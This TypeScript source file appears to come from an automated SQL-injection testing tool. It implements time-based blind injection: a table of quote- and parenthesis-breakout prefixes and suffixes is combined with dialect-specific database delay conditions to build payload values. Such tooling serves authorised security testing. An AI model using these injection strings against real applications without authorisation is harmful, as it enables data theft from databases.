import { delays } from "../../../src/payloads/sql/delays.ts";
import { askDelays, findDelay, type Waiting } from "./delay-series.ts";
import { likelyDialects } from "./likely-dialects.ts";
import { sightOf } from "./sight.ts";
import type { Aim, Technique } from "./technique.ts";

/** Where a condition is worked out even if no row is looked at: constants come first in all of these databases. */
const places: readonly { readonly name: string; readonly open: string; readonly close: string }[] = [
  { name: "quoted", open: "' AND ", close: " AND 'g'<>'h" },
  { name: "parenthesised", open: "') AND ", close: " AND ('g'<>'h" },
  { name: "twice-parenthesised", open: "')) AND ", close: " AND (('g'<>'h" },
  { name: "bare", open: " AND ", close: "" },
  { name: "stored", open: "'||substr('g',1+(CASE WHEN ", close: " THEN 1 END))||'" },
  { name: "stored-compared", open: "'<>substr('g',1+(CASE WHEN ", close: " THEN 1 END)) AND 'g'<>'" },
  { name: "double-quoted", open: '" AND ', close: ' AND "g"<>"h' },
  // Never true, so that no row is matched that the value does not match.
  { name: "backslash", open: "\\' OR 2=(CASE WHEN ", close: " THEN 1 END)-- g" },
];

/** A tool that shows nothing still shows how long it took: the database is made to wait, and the durations must follow the doses. */
export const timeTechnique: Technique = {
  name: "time",
  computes: false,
  async probe(aim) {
    if (matters(aim)) await askDelays(aim, "time", ways(aim));
  },
  find: (exchanges) => findDelay(exchanges, "time"),
};

/** Where rows and errors tell values apart, the conditions have asked the same already. */
function matters(aim: Aim): boolean {
  const sight = sightOf(aim.sent());
  return sight.blind || !sight.finds;
}

function ways(aim: Aim): readonly Waiting[] {
  const names = new Set(likelyDialects(aim.sent()).map(({ name }) => name));
  return places.flatMap(({ name, open, close }) =>
    delays.flatMap((delay) => {
      const { condition, dialect } = delay;
      if (condition === undefined || !names.has(dialect)) return [];
      const value = (amount: string): string => `${aim.base}${open}${condition(amount, aim.random)}${close}`;
      return [{ delay, name: `${dialect} ${name}`, value }];
    }),
  );
}
